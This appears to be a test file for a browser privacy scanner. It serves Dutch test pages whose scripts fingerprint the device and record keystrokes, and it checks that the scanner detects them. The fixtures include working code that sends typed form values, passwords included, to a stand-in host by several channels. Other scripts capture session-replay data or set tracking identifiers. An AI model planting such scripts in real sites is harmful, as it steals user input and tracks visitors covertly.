/** What scripts do is recorded, whatever they try; and what only looks like it is not. */
import { createHash, randomUUID } from 'node:crypto'
import type { IncomingMessage, ServerResponse } from 'node:http'
import type { Duplex } from 'node:stream'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Behaviour } from '../../../model/evidence.ts'
import { launchBrowser, type ScanBrowser } from '../../../outside/browser.ts'
import { OTHER, testSite, THIRD, visit } from '../test-site.ts'
import { watch } from './watch.ts'

const SEND = `fetch('{other}/neem', { method: 'POST', body: 'x' })`
/** Letters in two colours, read back. */
const CANVAS = `const canvas = document.createElement('canvas'); canvas.width = 200; canvas.height = 40
  const pen = canvas.getContext('2d'); pen.fillStyle = '#f60'; pen.fillText('Sphinx of black quartz, judge my vow', 2, 15)
  pen.fillStyle = '#069'; pen.fillText('Sphinx', 4, 17); const drawn = canvas.toDataURL();`
const MANY = `new OfflineAudioContext(1, 4410, 44100).startRendering; const sound = new OfflineAudioContext(1, 441, 44100)
  sound.createOscillator().connect(sound.destination); sound.startRendering()
  const line = new RTCPeerConnection(); line.createDataChannel(''); line.close()
  const box = document.body.appendChild(document.createElement('span')); box.textContent = 'mmmm'
  for (let at = 0; at < 60; at++) { box.style.fontFamily = 'Letter' + at; box.offsetWidth }
  navigator.mediaDevices?.enumerateDevices(); navigator.getBattery?.();`
const SYSTEM = `[screen.width, screen.height, screen.availWidth, screen.availHeight, screen.colorDepth, screen.pixelDepth,
  navigator.userAgent, navigator.platform, navigator.language, navigator.languages, navigator.hardwareConcurrency,
  navigator.deviceMemory, navigator.plugins, new Date().getTimezoneOffset()];`
const REPLAY = `for (const kind of ['mousemove', 'keydown', 'scroll']) document.addEventListener(kind, () => {})
  new MutationObserver(() => {}).observe(document, { childList: true, subtree: true })
  const moves = []; addEventListener('mousemove', ({ clientX, clientY }) => moves.push([clientX, clientY]))
  addEventListener('load', () => setTimeout(() => fetch('{other}/neem', { method: 'POST',
    body: JSON.stringify({ html: document.documentElement.outerHTML }) }), 500))
  addEventListener('pagehide', () => navigator.sendBeacon('{other}/neem', JSON.stringify(moves)))`
/** What each of these scripts does when something is typed. */
const KEYS: Record<string, string> = {
  post: `fetch('{other}/neem', { method: 'POST', body: JSON.stringify({ v: value }) })`,
  url: `fetch('{other}/neem?v=' + encodeURIComponent(value))`,
  base64: `new Image().src = '{other}/neem?d=' + encodeURIComponent(btoa(JSON.stringify({ v: value })))`,
  beacon: `crypto.subtle.digest('SHA-256', new TextEncoder().encode(value.trim().toLowerCase())).then((sum) =>
    navigator.sendBeacon('{other}/neem', [...new Uint8Array(sum)].map((one) => one.toString(16).padStart(2, '0')).join('')))`,
  socket: `socket.send(value)`,
  own: `fetch('/neem', { method: 'POST', body: value })`,
  file: `const form = new FormData(); form.append('film', new Blob([value])); fetch('{other}/neem', { method: 'POST', body: form })`,
  packed: `const press = new CompressionStream('gzip'); const pen = press.writable.getWriter()
    pen.write(new TextEncoder().encode(value)); pen.close(); new Response(press.readable).blob().then((film) => {
      const form = new FormData(); form.append('soort', 'film'); form.append('film', film)
      navigator.sendBeacon('{other}/neem', form) })`,
  worker: `worker.postMessage(value)`,
  long: `fetch('{other}/neem', { method: 'POST', body: '-'.repeat(120_000) + value })`,
}
/** What it opens before that. */
const OPENS: Record<string, string> = {
  socket: `const socket = new WebSocket('{other}/lijn'.replace('http', 'ws'));`,
  worker: `const work = "onmessage = ({ data }) => fetch('{other}/neem', { method: 'POST', body: new Blob([data]) })"
    const worker = new Worker(URL.createObjectURL(new Blob([work])));`,
}
/** What waits until nobody types for a while. */
const LATER = `clearTimeout(window.later); window.later = setTimeout(() => navigator.sendBeacon('{other}/neem', value), 500)`
const onType = (what: string, open = '') => `${open}addEventListener('input', ({ target: { value } }) => { ${what} })`
const SCRIPTS: Record<string, string> = {
  '/canvas.js': `${CANVAS}${SEND}`,
  '/stil.js': CANVAS,
  '/veel.js': `addEventListener('DOMContentLoaded', () => { ${MANY}${SEND} })`,
  '/stel.js': `${SYSTEM}${SEND}`,
  '/kader.js': `addEventListener('DOMContentLoaded', () => { const frame = document.body.appendChild(document.createElement('iframe'))
    const clean = frame.contentDocument.createElement('canvas'); clean.width = 99; clean.height = 99
    const pen = clean.getContext('2d'); pen.fillText('abcdefghijklmnop', 1, 9); clean.toDataURL(); ${SEND} })`,
  '/film.js': REPLAY,
  '/toets.js': `addEventListener('DOMContentLoaded', () => document.onkeydown = () => {})`,
  ...Object.fromEntries(Object.entries(KEYS).map(([name, what]) => [`/typ-${name}.js`, onType(what, OPENS[name])])),
  '/typ-later.js': onType(LATER),
  // Keys one by one.
  '/typ-los.js': `addEventListener('keydown', ({ key }) => navigator.sendBeacon('{other}/neem', JSON.stringify([key])))`,
  '/nummer.js': `document.cookie.includes('volg=') || (document.cookie = 'volg=' + crypto.randomUUID() + ';path=/;max-age=9999999')
    localStorage.plek ??= crypto.randomUUID(); localStorage.maat = '1280x900'; sessionStorage.keer = Math.random()
    new Image().src = '{third}/neem?u=' + document.cookie.split('volg=')[1]`,
  '/bank.js': `const asked = indexedDB.open('bank'); asked.onupgradeneeded = () => asked.result.createObjectStore('wie')
    asked.onsuccess = () => { const store = asked.result.transaction('wie', 'readwrite').objectStore('wie')
      store.get(1).onsuccess = ({ target }) => target.result || store.put({ id: crypto.randomUUID() }, 1) }`,
}
const from = (name: string, who = '{other}') => `<script src="${who}/${name}.js?t=1"></script>`
const FORM = `<form action="/klaar"><label>Naam <input name="naam"></label><label>E-mail <input type="email" name="mail"></label>
  <label>Bel <input type="tel" name="bel"></label><label>Geheim <input type="password" name="geheim"></label>
  <label>Zoek <input name="zoek"></label><button>Verstuur</button></form>`
const TEXT = `<p>De brug bij de haven gaat maandag dicht voor onderhoud</p><p>Fietsers rijden drie weken om langs de oude sluis</p>
  <p>De markt staat zaterdag gewoon op het plein bij de kerk</p>`
const PAGES: Record<string, string> = {
  '/canvas': from('canvas'),
  '/stil': from('stil'),
  '/veel': from('veel'),
  '/stel': from('stel'),
  '/kader': from('kader'),
  '/film': TEXT + from('film'),
  '/toets': from('toets'),
  '/verstuur': `${FORM}<script>addEventListener('input', () => document.querySelector('form').submit())</script>`,
  '/verstuur-ernaast': `${FORM}<script>addEventListener('keydown', () => { const form = document.querySelector('form')
    form.target = '_blank'; form.submit() })</script>`,
  '/verstuur-binnen': `${FORM}<iframe name="hier"></iframe><iframe name="daar" src="{other}/verder"></iframe><script>
    addEventListener('input', () => { const form = document.querySelector('form'); form.method = 'post'
      for (const target of ['hier', 'daar']) { form.target = target; form.submit() } })</script>`,
  '/verstuur-later': `${FORM}<script>addEventListener('input', () => setTimeout(() =>
    document.querySelector('form').submit(), 40))</script>`,
  ...Object.fromEntries(
    [...Object.keys(KEYS), 'los', 'later'].map((name) => [`/typ-${name}`, FORM + from(`typ-${name}`)]),
  ),
  '/nummer': from('nummer', '{home}') + from('bank'),
  // It never ends its asking.
  '/vraagt-door': `<script>(function ask() { fetch('/neem').then(ask) })()</script>`,
  '/werker': `<iframe src="{other}/blijft"></iframe>`,
  '/werker-samen': `<script>new SharedWorker('/samen.js')</script>`,
  '/werker-eigen': `<script>navigator.serviceWorker.register('/sw.js').catch(() => {})</script>`,
  '/blijft': `<script>navigator.serviceWorker.register('/sw.js').catch(() => {})</script>`,
  '/etag': `<img src="{other}/merk.png" alt=""><img src="{other}/gewoon.png" alt="">`,
  // A chart that somebody can save, a test for emoji, a picture made smaller, a code of squares.
  '/grafiek': `<canvas id="k" width="300" height="200"></canvas><script>${CANVAS.replace('canvas.toDataURL()', '0')}
    const other = document.createElement('canvas'); const ink = other.getContext('2d'); ink.fillText('😀', 4, 4)
    ink.getImageData(0, 0, 16, 16); ink.save(); ink.fillStyle = 'red'; ink.fillText('abcdefghijklm', 1, 1); other.toDataURL()
    const code = document.createElement('canvas').getContext('2d'); for (const colour of ['#000', '#fff']) {
      code.fillStyle = colour; code.fillRect(0, 0, 9, 9) } code.canvas.toDataURL()
    const photo = document.createElement('canvas').getContext('2d'); photo.fillText('abcdefghijklmnop', 1, 9)
    photo.canvas.toDataURL('image/webp'); ${SEND}</script>`,
  // A player that looks at its room, and shortcuts of the site itself.
  '/speler': `<div id="s">speler</div><script>const s = document.querySelector('#s'); s.getBoundingClientRect(); s.offsetWidth
    screen.width; navigator.userAgent; s.addEventListener('keydown', () => {}); document.addEventListener('keydown', () => {});
    ${SEND}</script>`,
  // What a counter of visits reads.
  '/teller': `<script>[screen.width, screen.height, screen.colorDepth, navigator.userAgent, navigator.language,
    navigator.cookieEnabled, new Date().getTimezoneOffset()]; ${SEND}</script>`,
  // What a page can see of us.
  '/gluur': `<script>const said = [HTMLCanvasElement.prototype.toDataURL, Function.prototype.toString, document.addEventListener,
    Object.getOwnPropertyDescriptor(Screen.prototype, 'width').get].map((one) => one + '' + one.name + one.length + ('prototype' in one))
    said.push(Object.keys(window).filter((name) => name.startsWith('_')).join(), document.createElement('canvas').toDataURL().slice(0, 22))
    try { HTMLCanvasElement.prototype.toDataURL.call({}) } catch (error) { said.push(error.constructor.name) }
    fetch('/hoor', { method: 'POST', body: JSON.stringify(said) })</script>`,
  // Whoever breaks everything first sees no more of us, and is still heard.
  '/stuk': `<script>Error.prepareStackTrace = () => { throw 1 }; Error.stackTraceLimit = 0; Map.prototype.get = () => 9e9
    WeakMap.prototype.get = Set.prototype.has = Reflect.apply = String.prototype.slice = () => { throw 1 }
    Array.prototype[Symbol.iterator] = () => { throw 1 }</script>${from('canvas')}`,
}

let browser: ScanBrowser
let site: Awaited<ReturnType<typeof testSite>>
const heard: string[] = []
beforeAll(async () => {
  const page = (body: string) => `<!doctype html><html lang="nl"><title>Proef</title><body><p>Een pagina.</p>${body}`
  const serve = (type: string, body: () => string) => (_: IncomingMessage, response: ServerResponse) => {
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' }).end(body())
  }
  const tagged = (tag: () => string) => (request: IncomingMessage, response: ServerResponse) => {
    const shown = request.headers['if-none-match']
    response.writeHead(shown ? 304 : 200, {
      etag: shown ?? tag(),
      'cache-control': 'no-cache',
      'content-type': 'image/png',
    })
    response.end(shown ? undefined : Buffer.from('iVBORw0KGgo', 'base64'))
  }
  site = await testSite({
    ...(Object.fromEntries(Object.entries(PAGES).map(([path, body]) => [path, page(body)])) as Record<string, string>),
    ...Object.fromEntries(
      Object.entries(SCRIPTS).map(([path, body]) => [path, serve('text/javascript', () => site.filled(body))]),
    ),
    '/verder': page('Verder'),
    '/neem': serve('text/plain', () => 'ok'),
    '/merk.png': tagged(() => `"${randomUUID()}"`),
    '/gewoon.png': tagged(() => `"${createHash('md5').update('altijd').digest('hex')}"`),
    '/hoor': (request, response) => {
      request.on('data', (data: Buffer) => heard.push(data.toString()))
      response.end()
    },
  })
  site.server.on('upgrade', (request: IncomingMessage, socket: Duplex) => {
    const proof = createHash('sha1').update(
      `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`,
    )
    socket.write('HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: Upgrade\r\n')
    socket.write(`sec-websocket-accept: ${proof.digest('base64')}\r\n\r\n`)
    // Nobody but us ends it: the server counts it as open, and waits for it when it closes.
    socket.on('error', () => socket.destroy()).on('end', () => socket.end())
    socket.resume()
  })
  browser = await launchBrowser({ proxyUrl: null, ignoreCertificates: false })
})
afterAll(async () => {
  await browser.close()
  await site.close()
})

async function watched(
  path: string,
  next = path,
  { budgetMs = 30_000, between = async () => undefined }: { budgetMs?: number; between?: () => Promise<void> } = {},
): Promise<Behaviour> {
  const { seen } = await visit(browser, site.url(path), {
    probes: [],
    budgetMs,
    walk: {
      tells: ['behaviour'],
      go: (page, options, deadline) => watch(page, { ...options, next: [site.url(next)], between }, deadline),
    },
  })
  if (!seen.behaviour?.seen) throw new Error(`not seen: ${JSON.stringify(seen.behaviour)}`)
  return seen.behaviour.value
}
const deeds = ({ scripts }: Behaviour) =>
  scripts.map(({ url, host, reads, sent }) => `${host}${new URL(url).pathname}: ${reads.join()}${sent ? ' sent' : ''}`)

test.each([
  ['/canvas', [`${OTHER}/canvas.js: canvas sent`]],
  ['/stil', [`${OTHER}/stil.js: canvas`]],
  ['/stel', [`${OTHER}/stel.js: system sent`]],
  ['/kader', [`${OTHER}/kader.js: canvas sent`]],
  ['/stuk', [`${OTHER}/canvas.js: canvas sent`]],
])('%s reads the device', async (path, told) => expect(deeds(await watched(path))).toEqual(told))

test('several things by one script', async () => {
  const [line] = deeds(await watched('/veel'))
  expect(line).toMatch(/^127\.0\.0\.2\/veel\.js: audio,(?:battery,devices,)?fonts,webrtc sent$/)
})

test('a chart, an emoji, a smaller picture, a code of squares, a counter and a player read no device', async () => {
  expect(deeds(await watched('/grafiek'))).toEqual([])
  expect(deeds(await watched('/teller'))).toEqual([])
  const { scripts } = await watched('/speler')
  expect(scripts.map(({ reads, listens }) => ({ reads, listens }))).toEqual([{ reads: [], listens: ['keys'] }])
})

test('what listens on the whole page, and the page and the path of the mouse in what is sent', async () => {
  const { scripts, uploads } = await watched('/film', '/verder')
  expect(scripts[0]).toMatchObject({ host: OTHER, listens: ['changes', 'keys', 'pointer', 'scroll'] })
  expect(uploads.map(({ host, what, way }) => ({ host, what, way }))).toEqual([
    { host: OTHER, what: 'movements', way: 'body' },
    { host: OTHER, what: 'page-text', way: 'body' },
  ])
  expect((await watched('/toets')).scripts[0]?.listens).toEqual(['keys'])
})

test.each([
  ['post', OTHER, 'body', 'plain'],
  ['url', OTHER, 'address', 'plain'],
  ['base64', OTHER, 'address', 'base64'],
  ['beacon', OTHER, 'body', 'sha256'],
  ['socket', OTHER, 'socket', 'plain'],
  ['los', OTHER, 'body', 'pieces'],
  ['own', '127.0.0.1', 'body', 'plain'],
  ['file', OTHER, 'body', 'plain'],
  ['packed', OTHER, 'body', 'plain'],
])('what is typed goes out by %s', async (name, host, way, coding) => {
  const { typed } = await watched(`/typ-${name}`)
  expect(typed?.fields).toBe(3)
  const fields = ['email', 'tel', 'text'].map((field) => expect.objectContaining({ host, way, coding, field }))
  expect(typed?.leaks).toEqual(expect.arrayContaining(fields))
  expect(typed?.leaks.filter((leak) => leak.host !== host)).toEqual([])
})

test.each([
  ['a file that a worker sends', '/typ-worker'],
  ['what is too long to be read whole', '/typ-long'],
])('of %s is not said that nothing that was typed is in it', async (_, path) => {
  const { typed, lacks } = await watched(path)
  expect([typed?.leaks, lacks]).toEqual([[], { requests: ['cut'], content: ['cut'] }])
})

test('that the boxes are empty again is no word that was lost', async () => {
  for (let time = 0; time < 3; time++) expect((await watched('/typ-own')).lacks).toEqual({})
})

test('what waits until nobody types any more goes out too, each time', { timeout: 60_000 }, async () => {
  for (let time = 0; time < 4; time++) {
    const { typed, lacks } = await watched('/typ-later')
    // One wait for all fields: only the last of what was typed.
    expect([typed?.leaks.map(({ host, field }) => [host, field]), lacks]).toEqual([[[OTHER, 'tel']], {}])
  }
})

test('what the first page lacked is not forgotten when the next one is whole', async () => {
  const { lacks } = await watched('/vraagt-door', '/typ-own')
  expect(lacks).toMatchObject({ requests: ['busy'], content: ['busy'], storage: ['busy'] })
  expect((await watched('/typ-own')).lacks).toEqual({})
})

test('when time is up, what was seen until then is told, with what it lacks', async () => {
  const never = () => new Promise<void>(() => undefined)
  const { scripts, ...rest } = await watched('/canvas', '/typ-post', { budgetMs: 14_000, between: never })
  expect(scripts).toMatchObject([{ host: OTHER, reads: ['canvas'], sent: true }])
  const cut = ['cut']
  const nothing = { uploads: [], typed: null, identifiers: null, tags: null }
  expect(rest).toMatchObject({ pages: [site.url('/canvas')], ...nothing })
  expect(rest.lacks).toEqual({ requests: cut, content: cut, storage: cut })
})

test('nothing is sent, whatever a script makes of what is typed', async () => {
  const { typed } = await watched('/verstuur')
  expect(typed).toEqual({ fields: 3, leaks: [] })
  expect(site.asked.filter((line) => line.includes('/klaar'))).toEqual([])
  // Nor by what hears that the fields are empty again, however late, nor in a window or a frame of its own.
  for (const path of ['/verstuur-later', '/verstuur-ernaast', '/verstuur-binnen']) await watched(path)
  expect(site.asked.filter((line) => line.includes('/klaar'))).toEqual([])
})

test('what is the same from page to page and another for each visitor, and who else is sent it', async () => {
  const { identifiers } = await watched('/nummer')
  expect(
    identifiers?.map(({ place, name, lasting, sentTo }) => [place, name, lasting, sentTo.map(({ host }) => host)]),
  ).toEqual([
    ['cookie', 'volg', true, [THIRD]],
    ['indexeddb', 'bank/wie', true, []],
    ['local', 'plek', true, []],
  ])
})

test('another party that wants a worker that stays could keep a number there; the site’s own keeps its own', async () => {
  expect((await watched('/werker')).lacks).toEqual({ storage: ['worker'] })
  expect((await watched('/werker-samen')).lacks).toEqual({ requests: ['shared-worker'], content: ['shared-worker'] })
  expect((await watched('/werker-eigen')).lacks).toEqual({})
  expect(site.asked.filter((line) => line.includes('/sw.js'))).toEqual([])
})

test('an ETag of its own for each visitor', async () => {
  expect((await watched('/etag')).tags).toEqual([{ host: OTHER, url: `${site.origin(OTHER)}/merk.png` }])
})

test('a page sees nothing of us', async () => {
  await watched('/gluur')
  const [said] = heard
  expect(JSON.parse(said!)).toEqual([
    'function toDataURL() { [native code] }toDataURL0false',
    'function toString() { [native code] }toString0false',
    'function addEventListener() { [native code] }addEventListener2false',
    'function get width() { [native code] }get width0false',
    '',
    'data:image/png;base64,',
    'TypeError',
  ])
})

test('three times the same', { timeout: 60_000 }, async () => {
  const told = []
  for (let time = 0; time < 3; time++) told.push(JSON.stringify(await watched('/canvas', '/typ-post')))
  expect(new Set(told).size).toBe(1)
})
